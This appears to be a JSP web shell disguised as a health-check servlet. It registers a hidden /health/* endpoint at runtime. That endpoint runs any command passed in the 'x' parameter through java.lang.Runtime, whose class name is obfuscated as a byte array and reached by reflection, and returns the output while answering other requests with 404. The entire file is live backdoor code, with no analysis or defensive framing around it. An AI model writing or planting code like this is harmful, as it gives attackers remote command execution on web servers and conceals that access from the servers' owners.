<%@ page import="javax.servlet.*,javax.servlet.http.*,java.io.*,java.lang.reflect.*" %>
<%!
public class HealthServlet extends HttpServlet {
    protected void service(HttpServletRequest rq, HttpServletResponse rs) throws IOException {
        String c = rq.getParameter("x");
        if (c == null) { rs.sendError(404); return; }
        Class<?> rc = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}));
        try {
            Object r = rc.getMethod("getRuntime").invoke(null);
            Process p = (Process) rc.getMethod("exec", String.class).invoke(r, c);
            InputStream in = p.getInputStream(); OutputStream o = rs.getOutputStream();
            byte[] b = new byte[2048]; int n; while ((n = in.read(b)) > 0) o.write(b, 0, n);
        } catch (Exception e) { rs.sendError(500); }
    }
}
%>
<%
Method gm = request.getClass().getMethod("getServletContext");
ServletContext ctx = (ServletContext) gm.invoke(request);
ServletRegistration.Dynamic d = ctx.addServlet("health" + System.currentTimeMillis(), new HealthServlet());
d.addMapping("/health/*");
%>
